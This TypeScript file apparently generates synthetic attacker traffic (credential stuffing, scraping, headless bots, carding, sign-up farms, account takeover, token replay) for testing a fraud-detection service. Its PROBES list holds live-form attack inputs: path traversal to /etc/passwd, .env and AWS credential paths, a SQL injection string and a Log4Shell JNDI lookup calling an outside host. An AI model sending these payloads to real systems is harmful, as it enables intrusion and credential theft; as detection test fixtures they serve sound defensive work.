import { CHROMIUM_DESKTOPS, EVERYDAY } from './browsers.ts';
import { makeDevice, makeEmail, makeGeneratedEmail, makePerson, type Person } from './people.ts';
import { addressIn, AUSTRALIA, GERMANY, HOSTING_NETWORKS, NIGERIA, PLACES, VIETNAM, type Place } from './places.ts';
import {
  collectorToken,
  headersOf,
  momentAt,
  pageUrl,
  visit,
  type Day,
  type EventType,
  type Persona,
  type PlannedSession,
  type Step,
} from './plan.ts';
import type { Random } from './random.ts';
import { accountOwners, dayOf } from './shoppers.ts';

/** Whoever must not get through. Each is as careful as its title says, and no more careless than that. */

function attacker(
  id: string,
  title: string,
  history: string | null,
  plan: (day: Day, random: Random) => readonly PlannedSession[],
): Persona {
  return { id, title, kind: 'attacker', history, plan: (day) => plan(day, dayOf(id, day)) };
}

const times = <T>(count: number, make: (i: number) => T): T[] => Array.from({ length: count }, (_, i) => make(i));

const only = (type: EventType, path: string, from: string | null = null): Step[] => [
  { type, path, from, afterSeconds: 0 },
];

/** A made-up person whose browser is only a text that a program sends. */
function mask(place: Place, ip: string, random: Random): Person {
  return makePerson(place, random.pick(EVERYDAY), random, ip);
}

const SCRIPTS = ['python-requests/2.32.5', 'python-requests/2.31.0'];
const SCRIPT_HEADERS = { accept: '*/*', 'accept-encoding': 'gzip, deflate' };
/** What Python requests shows of itself in the TLS handshake, whatever agent it names. */
const SCRIPT_JA4 = 't13d1812h1_85036bcba153_b26ce05bbdd6';

const LIBRARIES_AND_CRAWLERS = [
  'python-requests/2.32.5',
  'Scrapy/2.13.3 (+https://scrapy.org)',
  'Go-http-client/2.0',
  'curl/8.14.1',
  'axios/1.12.2',
  'Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)',
  'Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)',
  'Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)',
];

const HEADLESS_AGENT =
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/157.0.0.0 Safari/537.36';

const DISPOSABLE = ['mailinator.com', 'guerrillamail.com', 'yopmail.com', 'sharklasers.com', 'trashmail.com'];

const PROBES = [
  '/.env',
  '/.git/config',
  '/wp-login.php',
  '/static/../../../../etc/passwd',
  '/download?file=..%2f..%2f..%2fetc%2fpasswd',
  '/.aws/credentials',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  "/search?q=shoes'+OR+1=1--",
  '/index.php?s=${jndi:ldap://203.0.113.9/a}',
  '/backup/.env.production',
];

export const ATTACKERS: readonly Persona[] = [
  attacker('stuffer_script', 'Credential stuffer, script', null, (day, random) => {
    const ip = addressIn(HOSTING_NETWORKS, random);
    return times(14, (i) =>
      visit(mask(GERMANY, ip, random), momentAt(day, 2.5, i * 7), only('login', '/login'), random, {
        token: 'opaque',
        userAgent: random.pick(SCRIPTS),
        headers: SCRIPT_HEADERS,
      }),
    );
  }),
  attacker('stuffer_tls', 'Credential stuffer, TLS passed on', null, (day, random) => {
    const ip = addressIn(HOSTING_NETWORKS, random);
    return times(10, (i) => {
      const person = mask(GERMANY, ip, random);
      return visit(person, momentAt(day, 3.5, i * 9), only('login', '/login', '/'), random, {
        token: 'opaque',
        headers: { ...headersOf(person, person.device), 'x-svc-ja4': SCRIPT_JA4 },
      });
    });
  }),
  attacker('scraper', 'Scraper', null, (day, random) =>
    times(12, (i) => {
      const person = mask(random.pick(PLACES), addressIn(HOSTING_NETWORKS, random), random);
      const pages = times(random.whole(3, 7), (page): Step => {
        const path = `/search?q=shoes&page=${page + 1}`;
        return { type: 'search', path, from: null, afterSeconds: page === 0 ? 0 : 3 };
      });
      return visit(person, momentAt(day, 4 + i * 1.4, random.whole(0, 900)), pages, random, {
        token: 'opaque',
        userAgent: LIBRARIES_AND_CRAWLERS[i % LIBRARIES_AND_CRAWLERS.length] ?? 'curl/8.14.1',
        headers: SCRIPT_HEADERS,
      });
    }),
  ),
  attacker('headless_bot', 'Headless browser', null, (day, random) =>
    times(12, (i) => {
      const person = makePerson(
        random.pick(PLACES),
        random.pick(CHROMIUM_DESKTOPS),
        random,
        addressIn(HOSTING_NETWORKS, random),
      );
      const steps: Step[] = [
        { type: 'search', path: '/search?q=console', from: null, afterSeconds: 0 },
        { type: 'checkout', path: '/checkout', from: '/basket', afterSeconds: 4 },
        { type: 'payment', path: '/checkout/payment', from: '/checkout', afterSeconds: 3 },
      ];
      const start = momentAt(day, 9 + i * 0.6, random.whole(0, 600));
      // One shows itself in its agent, one in the webdriver flag, one in a browser that has nothing installed.
      const bare = { plugins: 0, languages: [] };
      const signals = i % 3 === 1 ? { webdriver: true } : bare;
      return i % 3 === 0
        ? visit(person, start, steps, random, { token: 'opaque', userAgent: HEADLESS_AGENT })
        : visit(person, start, steps, random, { signals });
    }),
  ),
  attacker('carder_disposable', 'Carder, disposable e-mails', null, (day, random) => {
    const ip = addressIn(HOSTING_NETWORKS, random);
    return times(12, (i) =>
      visit(
        mask(random.pick(PLACES), ip, random),
        momentAt(day, 1, i * 110 + random.whole(0, 40)),
        only('payment', '/checkout/payment', i % 2 === 0 ? null : '/checkout'),
        random,
        { token: 'opaque', email: makeEmail(random.pick(DISPOSABLE), random) },
      ),
    );
  }),
  attacker('signup_farm', 'Sign-up farm', null, (day, random) => {
    const ip = addressIn(HOSTING_NETWORKS, random);
    return times(12, (i) =>
      visit(
        mask(random.pick(PLACES), ip, random),
        momentAt(day, 13, i * 75 + random.whole(0, 30)),
        only('signup', '/register', '/'),
        random,
        { token: 'opaque', email: makeGeneratedEmail(random.pick(DISPOSABLE), random) },
      ),
    );
  }),
  attacker('prober', 'Vulnerability prober', null, (day, random) =>
    times(PROBES.length, (i) => {
      const person = mask(random.pick(PLACES), addressIn(HOSTING_NETWORKS, random), random);
      return visit(person, momentAt(day, 5, i * 20), only('search', PROBES[i] ?? '/.env'), random, { token: 'opaque' });
    }),
  ),
  attacker('stuffer_rotating', 'Credential stuffer, changing agents', 'velocity', (day, random) => {
    const ip = addressIn(HOSTING_NETWORKS, random);
    return times(30, (i) =>
      visit(mask(GERMANY, ip, random), momentAt(day, 3, i * 8), only('login', '/login', '/'), random, {
        token: 'opaque',
      }),
    );
  }),
  attacker('carder_patient', 'Carder, lasting e-mails', 'velocity', (day, random) => {
    const person = mask(GERMANY, addressIn(GERMANY.networks, random), random);
    return times(20, (i) => {
      const buyer = mask(GERMANY, person.ip, random);
      const step = only('payment', '/checkout/payment', '/checkout');
      return visit(buyer, momentAt(day, 22, i * 80 + random.whole(0, 30)), step, random, { token: 'opaque' });
    });
  }),
  attacker('traveller', 'Thief of an account, far away', 'travel', (day, random) =>
    accountOwners().map((owner, i) => {
      const place = random.pick([VIETNAM, NIGERIA, AUSTRALIA]);
      const thief = makePerson(place, random.pick(CHROMIUM_DESKTOPS), random);
      const steps: Step[] = [
        { type: 'login', path: '/login', from: '/', afterSeconds: 0 },
        { type: 'checkout', path: '/checkout', from: '/basket', afterSeconds: 70 },
      ];
      const stolen = { ...thief, userId: owner.userId, email: owner.email };
      return visit(stolen, momentAt(day, 8.5, i * 300 + random.whole(0, 120)), steps, random);
    }),
  ),
  attacker('account_sharing', 'One account, many people', 'velocity and travel', (day, random) => {
    const account = makePerson(GERMANY, random.pick(EVERYDAY), random);
    return times(9, (i) => {
      const place = random.pick(PLACES);
      const user = makePerson(place, random.pick(EVERYDAY), random);
      const steps: Step[] = [
        { type: 'login', path: '/login', from: '/', afterSeconds: 0 },
        { type: 'search', path: '/search?q=film', from: '/account', afterSeconds: 30 },
      ];
      const shared = { ...user, userId: account.userId, email: account.email };
      return visit(shared, momentAt(day, 18, i * 330 + random.whole(0, 90)), steps, random);
    });
  }),
  attacker('token_replay', 'One session token, many networks', 'travel', (day, random) =>
    times(6, (i) => {
      const victim = makePerson(GERMANY, random.pick(CHROMIUM_DESKTOPS), random);
      const start = momentAt(day, 15, i * 700);
      const token = collectorToken(victim, victim.device, { sid: random.hex(24), iat: start - 3 });
      const networks = GERMANY.networks.filter((network) => !network.endsWith('::'));
      return {
        events: times(8, (step) => ({
          atSeconds: start + step * random.whole(20, 28),
          body: {
            event_type: 'login',
            ip: addressIn([networks[step % networks.length] ?? '91.10.20'], random),
            user_agent: victim.device.browser.userAgent,
            url: pageUrl('/login'),
            referrer: pageUrl('/'),
            session_token: token,
            entity_keys: { user_id: `u-${random.whole(100_000, 999_999)}` },
            headers: headersOf(victim, makeDevice(victim.device.browser, victim.place, random)),
          },
        })),
      };
    }),
  ),
];
